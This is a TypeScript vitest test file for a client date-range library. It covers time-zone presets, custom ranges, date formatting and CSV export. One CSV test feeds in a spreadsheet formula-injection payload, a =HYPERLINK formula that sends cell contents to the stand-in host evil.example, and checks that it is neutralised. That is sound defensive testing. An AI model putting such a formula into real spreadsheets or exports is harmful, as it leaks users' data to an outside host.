import { describe, expect, it } from 'vitest';
import { csv, dateRange, dateTime, isoDate, presetRange, rangePresets, zoneOffsetMinutes } from '@client/lib/date-range';

/** Record ranges are days of the brand's time zone, whatever the browser's (docs/product.md 9 presets). */
describe('record ranges in the brand time zone', () => {
  const HCM = 'Asia/Ho_Chi_Minh'; // UTC+7, no daylight saving
  const BKK = 'Asia/Bangkok';
  const utc = (iso: string) => Date.parse(`${iso}Z`);
  // 2026-11-25 12:30 in Ho Chi Minh City is 05:30 UTC
  const noon = utc('2026-11-25T05:30:00');
  // midnight of 2026-11-DD in Ho Chi Minh City: 17:00 UTC the day before
  const midnight = (d: number) => utc(`2026-11-${String(d).padStart(2, '0')}T00:00:00`) - 7 * 3_600_000;

  it('knows the offset of a zone', () => {
    expect(zoneOffsetMinutes(noon, HCM)).toBe(420);
    expect(zoneOffsetMinutes(noon, 'UTC')).toBe(0);
    expect(zoneOffsetMinutes(utc('2026-07-01T12:00:00'), 'Europe/London')).toBe(60);
  });

  it('today, the previous and the next 7 and 30 days are whole days of the zone', () => {
    expect(presetRange('today', HCM, noon)).toEqual({ from: midnight(25), to: midnight(26) });
    expect(presetRange('last7', HCM, noon)).toEqual({ from: midnight(19), to: midnight(26) });
    expect(presetRange('last30', HCM, noon).from).toBe(utc('2026-10-27T00:00:00') - 7 * 3_600_000);
    expect(presetRange('next7', HCM, noon)).toEqual({ from: midnight(25), to: utc('2026-12-02T00:00:00') - 7 * 3_600_000 });
    expect(presetRange('next30', HCM, noon).to).toBe(utc('2026-12-25T00:00:00') - 7 * 3_600_000);
    expect(presetRange('today', BKK, noon)).toEqual(presetRange('today', HCM, noon));
  });

  it('offers the next 7 and 30 days only where something lies ahead (docs/product.md 9)', () => {
    expect(rangePresets(false)).toEqual(['today', 'last7', 'last30']);
    expect(rangePresets(true)).toEqual(['today', 'last7', 'last30', 'next7', 'next30']);
  });

  it('at 23:30 UTC it is already tomorrow in Ho Chi Minh City', () => {
    const late = utc('2026-11-25T23:30:00');
    expect(presetRange('today', HCM, late)).toEqual({ from: midnight(26), to: midnight(27) });
    expect(presetRange('today', 'UTC', late)).toEqual({ from: utc('2026-11-25T00:00:00'), to: utc('2026-11-26T00:00:00') });
  });

  it('a custom range includes both days of the zone; a missing or upside-down one is null', () => {
    expect(dateRange('2026-11-01', '2026-11-03', HCM)).toEqual({ from: midnight(1), to: midnight(4) });
    expect(dateRange('2026-11-03', '2026-11-01', HCM)).toBeNull();
    expect(dateRange('', '2026-11-01', HCM)).toBeNull();
  });

  it('writes dates and times of the zone as yyyy-MM-dd HH:mm:ss', () => {
    expect(dateTime(utc('2026-01-01T20:04:05'), HCM)).toBe('2026-01-02 03:04:05');
    expect(isoDate(utc('2026-01-01T20:04:05'), HCM)).toBe('2026-01-02');
    expect(isoDate(utc('2026-01-01T20:04:05'), 'UTC')).toBe('2026-01-01');
  });
});

describe('csv', () => {
  it('quotes what needs quoting and starts with a BOM', () => {
    expect(
      csv([
        ['a', 'b,c'],
        ['say "hi"', 12],
      ]),
    ).toBe('\uFEFFa,"b,c"\r\n"say ""hi""",12\r\n');
  });
  it('neutralises a text cell a spreadsheet would run as a formula; numbers stay numbers', () => {
    expect(csv([['=HYPERLINK("http://evil.example/?"&A1,"Click")', 'ok']])).toBe('\uFEFF"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",ok\r\n');
    expect(csv([['+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', 'a=b', -5000, 0]])).toBe("\uFEFF'+1+1,'-2+3,'@SUM(A1),'\t=1,\"'\r=1\",a=b,-5000,0\r\n");
  });
});
